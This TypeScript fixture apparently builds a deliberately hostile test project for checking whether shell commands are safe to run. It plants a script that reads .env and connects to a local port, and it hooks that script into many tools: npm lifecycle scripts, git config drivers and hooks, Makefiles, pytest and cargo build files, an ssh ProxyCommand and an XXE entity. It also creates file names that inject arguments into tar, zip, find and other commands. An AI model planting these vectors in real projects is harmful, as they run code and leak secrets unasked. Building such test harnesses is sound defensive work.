/** The project in which looks.txt is tried: all that programs obey in it is hostile. */
import { dirname } from "node:path";

export interface LooksPlaces {
  readonly root: string;
  readonly home: string;
  readonly outside: string;
  readonly port: number;
}

export const SECRET = "hunter2-canary";

const PYTHON = `import os\nos.system("./evil.sh")\n`;
const NODE = `require("child_process").execSync("./evil.sh");\n`;
const MODULE = `import { execSync } from "node:child_process";\nexecSync("./evil.sh");\n`;
const RUBY = "`./evil.sh`\n";
const MAKE = "X := $(shell ./evil.sh)\nall:\n\t./evil.sh\n";

/** What is not committed lies in `.gitignore`, as a secret does. */
const FILES: Readonly<Record<string, string>> = {
  "a.txt": "a\nb\nc\n",
  "b.txt": "b\nc\n",
  "names.txt": "a.txt\nCANARY-names\n",
  "a.json": "{}\n",
  "a.yml": "a: 2\n",
  "src/a.ts": "export const a = 1;\n",
  "src/main.rs": "fn main() {}\n",
  ".gitignore": ".env\n*-link-to-env\n",
  ".gitattributes": "*.txt diff=evil filter=evil\n",
  // Bash, for it can connect.
  "evil.sh":
    "#!/bin/bash\ncd @ROOT@\ntouch CANARY-evil @HOME@/CANARY-evil @OUTSIDE@/CANARY-evil\ncat .env\nexec 3<> /dev/tcp/127.0.0.1/@PORT@\ntimeout 1 cat\n",
  "bin/ls": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
  "bin/git-evil": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
  "bin/git-merge-evil": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
  "bin/as": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
  "bin/cc1": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
  ".hooks/pre-commit": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
  ".hooks/post-index-change": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
  "node_modules/.bin/evil": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
  "node_modules/.bin/tsc": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
  "gradlew": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
  "Makefile": MAKE,
  "evil.mk": MAKE,
  "sub/Makefile": MAKE.replaceAll("./evil", "../evil"),
  "package.json": JSON.stringify({
    name: "looks",
    version: "1.0.0",
    scripts: {
      test: "./evil.sh",
      pretest: "./evil.sh",
      start: "./evil.sh",
      evil: "./evil.sh",
      preinstall: "./evil.sh",
      prepare: "./evil.sh",
      prepack: "./evil.sh",
      version: "./evil.sh",
    },
  }),
  "sub/package.json": JSON.stringify({ name: "sub", version: "1.0.0", scripts: { test: "../evil.sh" } }),
  ".yarnrc": "yarn-path ./evil.js\n",
  ".yarnrc.yml": "yarnPath: ./evil.js\n",
  "evil.npmrc": "node-options=--require=./evil.js\n",
  "evil.js": NODE,
  "evil.mjs": MODULE,
  "a.test.js": NODE,
  "eslint.config.js": NODE,
  "prettier.config.js": NODE,
  "jest.config.js": NODE,
  "evil.ts": NODE,
  "evil.py": PYTHON,
  "conftest.py": PYTHON,
  "setup.py": PYTHON,
  "test_evil.py": PYTHON,
  "sitecustomize.py": PYTHON,
  "noxfile.py": PYTHON,
  "tox.ini": "[testenv]\ncommands = ./evil.sh\n",
  "evil.ini": "[pytest]\naddopts = -p evil\n",
  "evil.pm": "system './evil.sh'; 1;\n",
  "evil.pl": "system './evil.sh';\n",
  "Devel/evil.pm": "package Devel::evil; system './evil.sh'; sub DB::DB {} 1;\n",
  "evil.rb": RUBY,
  "Rakefile": RUBY,
  "Gemfile": RUBY,
  "evil.lua": 'os.execute("./evil.sh")\n',
  "evil.vim": "silent !./evil.sh\n",
  "evil.awk": 'BEGIN { system("./evil.sh") }\n',
  "evil.sed": "e ./evil.sh\n",
  "evil.sql": ".shell ./evil.sh\n",
  "evil.c": '#include <stdio.h>\nint main(void) { return fopen("CANARY-c", "w") == 0; }\n',
  "evil_so.c":
    '#include <fcntl.h>\n__attribute__((constructor)) void make(void) { creat("CANARY-so", 0644); }\n',
  "evil.opts": "-save-temps -o CANARY-opts\n",
  "evil.rs": "fn main() {}\n",
  "evil.cmake": "execute_process(COMMAND ./evil.sh)\n",
  "CMakeLists.txt": "execute_process(COMMAND ${CMAKE_SOURCE_DIR}/evil.sh)\n",
  "justfile": "x := `./evil.sh`\nall:\n\t./evil.sh\n",
  "evil.magic": "0 string a evil\n",
  "evil.ripgreprc": "--pre=./evil.sh\n",
  "evil.manconf": "DEFINE pager ./evil.sh\n",
  "evil.lesskey": "#env\nLESSOPEN = |./evil.sh %s\n",
  "evil.ssh": "Host *\n  ProxyCommand ./evil.sh\n",
  "evil.curlrc": 'url = "http://127.0.0.1:@PORT@/"\n',
  "evil.goenv": "GOFLAGS=-toolexec=./evil.sh\n",
  "evil.gitconfig": "[core]\n\tfsmonitor = ./evil.sh\n\tpager = ./evil.sh\n",
  "evil.attributes": "* diff=evil\n",
  "evil.patch": "--- a/a.txt\n+++ b/a.txt\n@@ -1,3 +1,3 @@\n-a\n+CANARY\n b\n c\n",
  "evil.xml":
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file://@ROOT@/.env"><!ENTITY n SYSTEM "http://127.0.0.1:@PORT@/">]><x>&e;&n;</x>\n',
  "evil.ti": "evil|x, am,\n",
  "Cargo.toml": '[package]\nname = "looks"\nversion = "0.1.0"\nedition = "2021"\nbuild = "build.rs"\n',
  "build.rs": 'fn main() { std::process::Command::new("./evil.sh").status().ok(); }\n',
  ".cargo/config.toml": '[build]\nrustc-wrapper = "./evil.sh"\n',
  "gomod/go.mod": "module looks\n\ngo 1.19\n",
  "gomod/main.go": "package main\n\nfunc main() {}\n",
  "gomod/main_test.go":
    'package main\n\nimport (\n\t"os"\n\t"testing"\n)\n\nfunc TestX(*testing.T) { os.WriteFile("CANARY-go", nil, 0o644) }\n',
  "globs/sort/--output=CANARY-glob": "",
  "globs/sort/a": "b\na\n",
  "globs/shuf/-oCANARY-glob": "",
  "globs/shuf/a": "b\na\n",
  "globs/rg/--pre=touch": "",
  "globs/rg/a": "a\n",
  "globs/tar/--checkpoint=1": "",
  "globs/tar/--checkpoint-action=exec=touch CANARY-glob": "",
  "globs/tar/a": "a\n",
  "globs/find/+a": "",
  "globs/find/-delete": "",
  "globs/git/--output=CANARY-glob": "",
  "globs/git/a": "a\n",
  "globs/git/b": "b\n",
  "globs/zip/-T": "",
  "globs/zip/-TTtouch CANARY-glob #": "",
  "globs/zip/a": "a\n",
  "globs/python/-cimport os; os.mkdir('CANARY-glob')": "",
  "globs/perl/-emkdir 'CANARY-glob'": "",
  "globs/ruby/-eDir.mkdir 'CANARY-glob'": "",
  "globs/node/--cpu-prof": "",
  "globs/node/a.js": "1;\n",
  "globs/sed/-i": "",
  "globs/sed/a": "a\n",
  "globs/gcc/-c": "",
  "globs/gcc/-oCANARY-glob": "",
  "globs/gcc/a.c": "int a;\n",
  "globs/tree/-o": "",
  "globs/tree/CANARY-glob-not-empty": "x\n",
  "globs/cp/--target-directory=d": "",
  "globs/cp/a": "a\n",
  "globs/cp/d/x": "",
  "globs/mv/--target-directory=d": "",
  "globs/mv/a": "a\n",
  "globs/mv/d/x": "",
  "globs/plain/a": "a\na\n",
  "globs/plain/b": "b\n",
  "globs/cmd/touch": "#!/bin/sh\nexec @ROOT@/evil.sh\n",
  "globs/cmd/x-CANARY": "",
  "globs/xargs/-atouch": "",
  "globs/xargs/touch": "CANARY-glob\n",
  ".env": `SECRET=${SECRET}\n`,
  "sub/.env": `SECRET=${SECRET}\n`,
};

/** In the project's own configuration, which git obeys unasked. */
const GIT_CONFIG = `[user]
	name = looks
	email = looks@example.org
[diff "evil"]
	command = ./evil.sh
	textconv = ./evil.sh
[filter "evil"]
	clean = ./evil.sh
	smudge = ./evil.sh
[core]
	fsmonitor = ./evil.sh
	pager = ./evil.sh
	sshCommand = ./evil.sh
	askPass = ./evil.sh
	hooksPath = .hooks
[alias]
	evil = !./evil.sh
[gpg]
	program = ./evil.sh
[merge]
	tool = x
[mergetool "x"]
	cmd = ./evil.sh
`;

/** Fills in where everything is; for lines of looks.txt too. */
export function placed(text: string, { root, home, outside, port }: LooksPlaces): string {
  return text.replaceAll("@ROOT@", root).replaceAll("@HOME@", home).replaceAll("@OUTSIDE@", outside)
    .replaceAll("@PORT@", String(port)).replaceAll("⏎", "\n");
}

/** Lines of looks.txt as they are tried, below one heading. */
export interface Looks {
  readonly kind: string;
  readonly lines: readonly string[];
}

export async function looksByKind(places: LooksPlaces): Promise<readonly Looks[]> {
  const text = await Deno.readTextFile(new URL("looks.txt", import.meta.url));
  // Before the first heading it says what it is.
  return text.split(/\n\n+(?=# )/).slice(1).map((section) => {
    const [heading = "", ...lines] = section.split("\n").filter((line) => line !== "");
    const tried = lines.filter((line) => !/^#( |$)/.test(line));
    return { kind: heading.replace("# ", ""), lines: tried.map((line) => placed(line, places)) };
  });
}

/** Makes the project, and a secret in the other folders. All of them have to be there, and empty. */
export async function makeLooksProject(places: LooksPlaces): Promise<void> {
  const { root, home, outside } = places;
  for (const [name, text] of Object.entries(FILES)) {
    const path = `${root}/${name}`;
    await Deno.mkdir(dirname(path), { recursive: true });
    const filled = placed(text, places);
    await Deno.writeTextFile(path, filled, { mode: filled.startsWith("#!") ? 0o755 : 0o644 });
  }
  await Deno.link(`${root}/.env`, `${root}/hard-link-to-env`);
  await Deno.symlink(".env", `${root}/soft-link-to-env`);
  await Deno.mkdir(`${home}/.ssh`);
  for (const path of [`${home}/secret.txt`, `${home}/.ssh/id_rsa`, `${outside}/secret.txt`]) {
    await Deno.writeTextFile(path, `${SECRET}\n`);
  }
  const git = (...args: readonly string[]) => run(root, "git", args);
  await git("init", "-q");
  const author = ["-c", "user.name=looks", "-c", "user.email=looks@example.org"];
  await git("add", "-A");
  await git(...author, "commit", "-qm", "one");
  await Deno.writeTextFile(`${root}/a.txt`, "a\nb\nc\nd\n");
  await git(...author, "commit", "-qam", "two");
  await Deno.writeTextFile(`${root}/a.txt`, "stashed\n");
  await git(...author, "stash", "-q");
  await run(root, "tar", ["cf", "evil.tar", "a.txt", "b.txt"]);
  await run(root, "git", ["clone", "-q", "--bare", ".", "evil.git"]);
  for (const folder of [`${root}/.git`, `${root}/evil.git`]) {
    await Deno.writeTextFile(`${folder}/config`, GIT_CONFIG, { append: true });
  }
}

async function run(cwd: string, program: string, args: readonly string[]): Promise<void> {
  const { success, stderr } = await new Deno.Command(program, { args: [...args], cwd, env: { HOME: cwd } })
    .output();
  if (!success) throw new Error(`${program} ${args.join(" ")}: ${new TextDecoder().decode(stderr)}`);
}
